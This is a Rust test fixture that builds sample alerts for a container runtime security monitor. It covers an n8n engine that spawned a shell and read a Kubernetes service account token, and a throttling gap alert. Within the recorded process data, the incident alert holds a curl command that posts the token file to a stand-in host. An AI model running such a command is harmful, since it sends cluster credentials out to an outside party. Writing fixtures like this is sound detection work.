//! Alerts for tests of this room and of the sinks.

use super::*;

/// The second alert of an incident: a shell from the engine, then a service account token read.
pub(crate) fn incident() -> Alert {
    Alert {
        schema: ALERT_SCHEMA.into(),
        id: "0b6f3d1e-6d3a-5b0e-9f3d-6f3a1f6b2c11".into(),
        time: "2026-11-23T20:40:01.123456789Z".into(),
        kind: AlertKind::Incident,
        state: State::Update,
        closed_by: None,
        tier: Some(Tier::Identity),
        severity: Severity::of(Tier::Identity),
        test: false,
        title: "Engine started a shell, then read a service account token".into(),
        incident: Some(Incident {
            id: "8f3ac2d4e5f60718".into(),
            revision: 2,
            run_key: "author:9a1b".into(),
            first: "2026-11-23T20:39:59.000000001Z".into(),
            last: "2026-11-23T20:40:01.123456789Z".into(),
            findings: 2,
            new: vec!["unexpected-identity".into()],
            chain: vec![
                link(Tier::Boundary, "shell-from-engine", "2026-11-23T20:39:59.000000001Z", "/bin/dash"),
                link(Tier::Identity, "unexpected-identity", "2026-11-23T20:40:01.123456789Z", TOKEN),
            ],
            unlisted: None,
            closure: None,
        }),
        finding: Some(FindingInfo {
            id: "unexpected-identity".into(),
            kind: "expectation".into(),
            signal: "open".into(),
            outcome: "ok".into(),
            certainty: "known".into(),
            hook: "tracepoint/open".into(),
            rule: Some(RuleRef { file: "profiles/n8n.yaml".into(), line: 41 }),
            also: vec![],
            expected: Some("role runner of profile n8n reads no identity".into()),
        }),
        gap: None,
        health: None,
        heartbeat: None,
        worker: Some(WorkerInfo {
            name: "lab-n8n".into(),
            engine: Some("n8n".into()),
            profile: "n8n".into(),
            cgroup: CgroupInfo { id: 4711, path: "/lab/n8n".into() },
            ..Default::default()
        }),
        attribution: Some(Attribution {
            run: Some(Attributed { value: "4242".into(), source: "env RUN_ID".into(), trust: "engine".into() }),
            ..Default::default()
        }),
        process: Some(ProcessInfo {
            key: "5f1c9b0e:123456789:4242".into(),
            pid: 4242,
            ns_pid: Some(12),
            ppid: Some(4240),
            start: Some("2026-11-23T20:39:58.900000000Z".into()),
            exe: Some("/usr/bin/curl".into()),
            argv: Some(
                ["curl", "-H", "Authorization: Bearer abcdef123456", "--data", "@/var/run/token", "https://h.example"]
                    .map(String::from)
                    .to_vec(),
            ),
            cwd: Some("/home/node".into()),
            uid: Some(1000),
            role: Some("descendant".into()),
            ancestors: vec![
                Ancestor { pid: 4240, exe: Some("/bin/dash".into()), role: Some("stray".into()) },
                Ancestor { pid: 4001, exe: Some("/usr/local/bin/node".into()), role: Some("engine".into()) },
            ],
        }),
        file: Some(FileInfo {
            path: Some(TOKEN.into()),
            flags: vec!["read".into()],
            identity: Some("k8s-service-account-token".into()),
            ..Default::default()
        }),
        network: None,
        blast_radius: Some(BlastRadius {
            taken: vec![Taken {
                identity: "k8s-service-account-token".into(),
                gives: Some("the pod's Kubernetes service account".into()),
                respond: "Revoke: delete the pod once its state is preserved (the token is bound to it). Review: search the API audit log by pod.".into(),
                from: None,
            }],
            used: vec!["npm-token".into()],
            reachable: vec!["n8n-encryption-key".into()],
            environment: vec!["DB_POSTGRESDB_PASSWORD".into()],
            contacted: vec!["cloud-metadata (169.254.169.254:80): established".into()],
            rotation: [
                ("k8s-service-account-token", "taken"),
                ("npm-token", "used"),
                ("$DB_POSTGRESDB_PASSWORD", "environment"),
                ("n8n-encryption-key", "reachable"),
            ]
            .map(|(what, because)| Rotate { what: what.into(), because: because.into() })
            .into(),
        }),
        evidence: Some(Evidence {
            events: vec![PastEvent {
                time: "2026-11-23T20:39:58.000000001Z".into(),
                pid: 4001,
                signal: "connect".into(),
                object: "10.0.0.7:5432".into(),
                argv: None,
                outcome: Some("attempted".into()),
            }],
            tree: vec![TreeProcess {
                pid: 4001,
                ppid: Some(3990),
                exe: Some("/usr/local/bin/node".into()),
                argv: Some(["node", "/usr/local/bin/n8n", "--token", "abcdef123456"].map(String::from).to_vec()),
                role: Some("engine".into()),
                uid: Some(1000),
                start: Some("2026-11-23T08:00:00.000000000Z".into()),
            }],
            more_processes: None,
        }),
        refs: [("attack", "T1528"), ("owasp_nhi", "NHI8")]
            .map(|(catalogue, id)| (catalogue.to_owned(), vec![id.to_owned()]))
            .into(),
        respond: vec!["Contain: freeze the worker".into(), "Preserve: keep the pod and this alert's evidence".into()],
        allow_with: None,
        host: HostInfo {
            name: "node-7".into(),
            cluster: Some("prod-eu".into()),
            machine_id: Some("c0ffee".into()),
            boot_id: Some("5f1c9b0e".into()),
            kernel: "6.12.0".into(),
            clock_synced: None,
        },
        environment: Some("production".into()),
        labels: [("team".to_owned(), "platform".to_owned())].into(),
        agent: AgentInfo { version: "0.1.0".into(), rules: "sha256:0000".into() },
        delivery: None,
        truncated: vec![],
    }
}

/// A gap: events of the priority lane were lost.
pub(crate) fn gap() -> Alert {
    Alert {
        kind: AlertKind::Gap,
        state: State::Open,
        tier: None,
        severity: Severity::Medium,
        title: "Worker lab-n8n sent more than its budget; 120 events were not looked at".into(),
        incident: None,
        finding: None,
        gap: Some(GapInfo {
            reason: "throttled".into(),
            lane: Some("priority".into()),
            from: "2026-11-23T20:40:00.000000000Z".into(),
            to: Some("2026-11-23T20:40:01.000000000Z".into()),
            lost: Some(120),
            ..Default::default()
        }),
        attribution: None,
        process: None,
        file: None,
        blast_radius: None,
        evidence: None,
        refs: Refs::new(),
        respond: vec![],
        ..incident()
    }
}

const TOKEN: &str = "/run/secrets/kubernetes.io/serviceaccount/..data/token";

fn link(tier: Tier, finding: &str, time: &str, object: &str) -> ChainLink {
    ChainLink {
        tier,
        finding: finding.into(),
        time: time.into(),
        process: "5f1c9b0e:123456789:4242".into(),
        role: Some("engine".into()),
        title: None,
        object: Some(object.into()),
        outcome: None,
        rule: Some(RuleRef { file: "detections/exec.yaml".into(), line: 7 }),
        also: vec![],
        repeats: None,
        last: None,
    }
}
